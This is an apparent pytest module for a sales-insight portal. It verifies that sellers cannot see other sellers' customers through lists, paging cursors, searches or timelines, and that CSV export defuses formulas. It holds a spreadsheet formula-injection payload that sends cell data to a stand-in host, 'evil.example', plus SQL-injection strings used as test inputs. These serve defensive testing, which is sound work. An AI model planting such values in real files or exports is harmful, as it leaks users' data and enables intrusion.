"""
A seller who looks further than his own customers.

Where a list is filtered after it was read, or trusts what an address says of it, whoever may see
some of it sees all: by another page, another order, a search, a count, or the address of a page
that was made for somebody else. Here whose customers somebody sees is part of every question to
the database, and nothing that travels can widen it: a mark says where a page begins, and never what
is on it. What others typed is text wherever it comes out.
"""

import contextlib
import io
import itertools

import pytest

from regportal.buying.overriding import Word, override
from regportal.errors import BadRequestError, NotHereError
from regportal.insight import accounts, opportunities, people, timeline
from regportal.insight.accounts import Accounts
from regportal.insight.opportunities import Opportunities
from regportal.insight.paging import walk
from regportal.insight.people import Claims, People
from regportal.insight.tables import Csv
from regportal.insight.timeline import Deeds
from regportal.store import marks
from tests.buying.scene import CRM, NOON, PRICES, Scene
from tests.insight.conftest import INTEREST

SAM, KIM = "sam@acme.example", "kim@acme.example"
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.fixture
def scene(store):
    """Two sellers, each with a customer; one of Kim's purchases has a hostile name."""
    scene = Scene(store)
    scene.publish(CRM, PRICES, INTEREST)
    for number, owner in enumerate((SAM, KIM)):
        who = scene.contact(f"customer{number}@example.com")
        deal = scene.opportunity(
            f"deal-{number}",
            name=FORMULA,
            owner={"name": owner, "email": owner},
            account={"external_id": f"A-{number}", "name": FORMULA},
        )
        scene.role(deal, who)
        scene.did(who)
        scene.claim(f"customer{number}@example.com")
    scene.weigh()
    return scene


def lists(scene, owners):
    """Return every list as it is asked for, in every order."""
    with scene.store.read() as session:
        published = scene.shelf.published(session)
    asked = [
        People(),
        People(q="customer"),
        People(phase="comparison"),
        People(score="interest", order="score"),
        People(score="interest", level="warm"),
        *(People(account=f"crm:A-{number}") for number in (0, 1)),
    ]
    return [
        *(
            lambda session, at, size, filters=filters: people.page(
                session, published, filters, at, size, owners=owners, now=NOON
            )
            for filters in asked
        ),
        lambda session, at, size: people.unconfirmed(session, Claims(), at, size, owners=owners),
        lambda session, at, size: accounts.page(session, Accounts(), at, size, owners=owners),
        *(
            lambda session, at, size, filters=filters: opportunities.page(
                session, filters, at, size, owners=owners
            )
            for filters in (Opportunities(), Opportunities(owner=KIM), Opportunities(owner=SAM))
        ),
    ]


def texts(scene, owners):
    with scene.store.read() as session:
        return [
            str([*walk(lambda at, page=page: page(session, at, 1))])
            for page in lists(scene, owners)
        ]


def test_in_no_list_a_seller_finds_anothers_customers(scene):
    mine = "".join(texts(scene, frozenset({SAM})))

    assert "customer0" in mine
    for foreign in ("customer1", "deal-1", "A-1", KIM):
        assert foreign not in mine


def test_whoever_sells_for_nobody_sees_nothing(scene):
    assert set(texts(scene, frozenset())) == {"[]"}
    assert set(texts(scene, frozenset({""}))) == {"[]"}
    assert set(texts(scene, frozenset({"%", "' OR 1=1 --"}))) == {"[]"}


def test_the_address_of_somebody_elses_page_shows_only_ones_own(scene):
    every, mine = lists(scene, None), lists(scene, frozenset({SAM}))
    with scene.store.read() as session:
        found = []
        for whole, own in zip(every, mine, strict=True):
            first = whole(session, None, 1)
            for at in (first.after, first.before):
                found += own(session, at, 200).rows if at else []

    assert KIM not in str(found)
    assert "customer1" not in str(found)


def test_no_mark_leads_out_of_the_list(scene):
    hostile = [
        marks.written("n", number, *keys)
        for number, keys in itertools.product(
            (-1, 0, 1, 99), [(), ("' OR 1=1 --",), ("x", "y"), (NOON, "x")]
        )
    ]
    for page, at in itertools.product(lists(scene, frozenset({SAM})), hostile):
        with scene.store.read() as session, contextlib.suppress(BadRequestError):
            assert "customer1" not in str(page(session, at, 50).rows)


def test_what_one_customer_did_is_not_told_to_another_seller(scene):
    foreign = scene.contact("customer1@example.com")
    for what in (timeline.proven, timeline.claimed):
        with scene.store.read() as session, pytest.raises(NotHereError):
            what(session, foreign, Deeds(), owners=frozenset({SAM}))


def test_what_a_crm_or_a_colleague_wrote_is_no_formula(scene):
    with scene.store.read() as session:
        published = scene.shelf.published(session)
        (deal, *_) = opportunities.page(session, Opportunities()).rows
    word = Word("decision", FORMULA, FORMULA, NOON.replace(month=4))
    scene.store.write(lambda session: override(session, published, str(deal.key), word, now=NOON))
    file = io.BytesIO()
    writer = Csv(file, opportunities.OpportunityRow)
    with scene.store.read() as session:
        writer.write(opportunities.page(session, Opportunities()).rows)
    told = file.getvalue().decode()

    assert "'=HYPERLINK" in told
    assert not [one for one in told.replace('"', ",").split(",") if one.startswith("=")]
